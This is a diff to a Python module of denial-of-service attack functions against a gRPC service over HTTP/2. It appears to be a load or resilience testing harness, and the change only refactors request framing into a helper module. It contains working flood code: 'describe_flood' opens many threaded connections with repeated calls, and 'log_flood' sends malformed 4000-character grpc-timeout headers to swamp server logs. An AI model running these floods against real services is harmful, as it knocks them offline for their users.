@@ -2,14 +2,14 @@
 
 import concurrent.futures
 import contextlib
-import struct
 
 import h2.config
 import h2.connection
 import h2.exceptions
 from advantaged.v1 import describe_pb2
 from attack import Attack
-from requests_attacks import COMPUTE, call
+from raw_http2 import call, message_bytes, request_headers
+from requests_attacks import COMPUTE
 
 DESCRIBE = "/advantaged.v1.AdvantageService/DescribeMethod"
 STREAMS = 50  # of a connection, one after the other
@@ -23,7 +23,7 @@ def describe_flood(target, connections, rounds):
 
     def describe(_):
         with target.dial() as connection, contextlib.suppress(OSError, h2.exceptions.ProtocolError):
-            call(connection, DESCRIBE, struct.pack(">BI", 0, len(message)) + message)
+            call(connection, DESCRIBE, message_bytes(message))
 
     with concurrent.futures.ThreadPoolExecutor(connections) as pool:
         for _ in rounds:
@@ -32,8 +32,7 @@ def describe_flood(target, connections, rounds):
 
 def log_flood(target, connections, rounds):
     """Headers that gRPC cannot parse, and says so at length."""
-    headers = [(":method", "POST"), (":scheme", "http"), (":authority", "test"), (":path", COMPUTE),
-               ("content-type", "application/grpc"), ("te", "trailers"), ("grpc-timeout", "x" * 4000)]
+    headers = request_headers(COMPUTE, ("grpc-timeout", "x" * 4000))
     for _ in rounds:
         with contextlib.ExitStack() as stack:
             for connection in [stack.enter_context(target.dial()) for _ in range(connections)]:
